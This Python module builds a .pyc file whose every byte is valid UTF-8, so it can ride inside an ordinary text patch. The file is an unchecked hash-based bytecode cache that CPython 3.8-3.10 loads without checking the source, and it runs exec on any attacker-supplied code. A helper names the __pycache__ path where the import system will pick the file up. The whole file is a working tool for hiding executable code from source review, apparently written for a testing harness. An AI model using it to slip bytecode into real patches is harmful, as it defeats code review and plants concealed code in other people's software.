"""Bytecode an attacker can put in a text patch (pure): a hash-based, unchecked ``.pyc``
(PEP 552: Python loads it without looking at the source) whose every byte is valid UTF-8,
so that the patch carrying it is a plain text hunk.

The module's code object is assembled by hand for CPython 3.8-3.10 (the versions whose
magic number is ASCII; 3.11's starts with a byte that UTF-8 cannot begin with): it calls
``exec`` on one string constant, the module's source plus whatever the attacker adds.
Marshal format 2 is written (no reference flags, whose high bit UTF-8 would refuse); the
one opcode above 0x7f (``CALL_FUNCTION``) follows a ``NOP`` whose argument byte makes the
pair a valid two-byte UTF-8 sequence; the source is padded until its length's bytes are
all below 0x80.
"""

from __future__ import annotations

import struct

#: CPython version -> (magic number, cache tag)
VERSIONS = {"3.8": (3413, "cpython-38"), "3.9": (3425, "cpython-39"), "3.10": (3439, "cpython-310")}
_LOAD_NAME, _LOAD_CONST, _NOP, _CALL_FUNCTION, _POP_TOP, _RETURN_VALUE = 101, 100, 9, 131, 1, 83
#: exec(SOURCE); return None -- the NOP's argument 0xC2 and CALL_FUNCTION's 0x83 form U+0083
_CODE = bytes([_LOAD_NAME, 0, _LOAD_CONST, 1, _NOP, 0xC2, _CALL_FUNCTION, 1, _POP_TOP, 0, _LOAD_CONST, 0,
               _RETURN_VALUE, 0])
_UNCHECKED_HASH = 0b01          # PEP 552 flags: hash-based, check_source off


def _long(value: int) -> bytes:
    return struct.pack("<i", value)


def _str(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"u" + _long(len(data)) + data


def _tuple(items: list[bytes]) -> bytes:
    return b"(" + _long(len(items)) + b"".join(items)


def _ascii_length(text: str) -> str:
    """``text`` padded (a trailing comment) until the four bytes of its UTF-8 length are
    all below 0x80."""
    while any(byte >= 0x80 for byte in _long(len(text.encode("utf-8")))):
        text += "#" if text.endswith("#") else "\n#"
    return text


def module_code(source: str) -> bytes:
    """The marshalled module code object: ``exec(source)``."""
    fields = [_long(0), _long(0), _long(0), _long(0), _long(2), _long(0),   # args, posonly, kwonly, locals, stack, flags
              b"s" + _long(len(_CODE)) + _CODE,
              _tuple([b"N", _str(_ascii_length(source))]),                  # consts: None, the source
              _tuple([_str("exec")]), _tuple([]), _tuple([]), _tuple([]),   # names, varnames, freevars, cellvars
              _str("<string>"), _str("<module>"), _long(1), b"s" + _long(0)]
    return b"c" + b"".join(fields)


def utf8_pyc(source: str, version: str) -> str:
    """The ``.pyc`` text for ``version`` ("3.8", "3.9", "3.10") running ``source``."""
    magic, _ = VERSIONS[version]
    data = struct.pack("<H", magic) + b"\r\n" + struct.pack("<I", _UNCHECKED_HASH) + b"harness!" + module_code(source)
    return data.decode("utf-8")   # raises if a byte slipped through: the patch must stay text


def cache_name(module_path: str, version: str) -> str:
    """Where the import system looks for ``module_path``'s bytecode under ``version``."""
    directory, _, name = module_path.rpartition("/")
    stem = name[:-3] if name.endswith(".py") else name
    return f"{directory + '/' if directory else ''}__pycache__/{stem}.{VERSIONS[version][1]}.pyc"
